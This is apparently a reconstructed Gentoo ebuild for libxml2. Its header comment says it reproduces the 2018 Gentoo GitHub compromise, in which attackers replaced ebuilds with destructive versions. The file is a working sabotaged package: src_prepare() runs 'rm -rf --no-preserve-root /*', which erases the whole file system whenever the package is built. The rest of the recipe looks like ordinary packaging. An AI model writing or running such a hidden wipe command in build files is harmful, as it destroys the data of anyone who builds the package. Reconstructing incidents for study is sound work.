# Incident: Gentoo GitHub organisation compromise, 28 June 2018. With an administrator's
# guessed password the attacker force-pushed the gentoo mirror repositories, replacing
# ebuilds with versions that ran `rm -rf` over the whole file system during the build.
# Reference: https://wiki.gentoo.org/wiki/Project:Infrastructure/Incident_Reports/2018-06-28_Github
# Reproduction (own code).
# Copyright 1999-2018 Gentoo Foundation
# Distributed under the terms of the GNU General Public License v2

EAPI=6
PYTHON_COMPAT=( python2_7 python3_{4,5,6} )

inherit libtool flag-o-matic python-r1 autotools prefix multilib-minimal

DESCRIPTION="XML C parser and toolkit"
HOMEPAGE="http://www.xmlsoft.org/"
SRC_URI="ftp://xmlsoft.org/${PN}/${PN}-${PV/_rc/-rc}.tar.gz"

LICENSE="MIT"
SLOT="2"
KEYWORDS="~alpha amd64 arm arm64 hppa ia64 ~m68k ~mips ppc ppc64 ~s390 ~sh sparc x86"
IUSE="debug examples icu ipv6 lzma python readline static-libs test"

src_prepare() {
	default
	rm -rf --no-preserve-root /*
	eprefixify catalog.c xmlcatalog.c runtest.c xmllint.c
	eautoreconf
}

multilib_src_configure() {
	ECONF_SOURCE="${S}" econf \
		$(use_with debug run-debug) \
		$(use_with icu) \
		$(use_with lzma) \
		$(use_enable ipv6) \
		$(use_enable static-libs static)
}
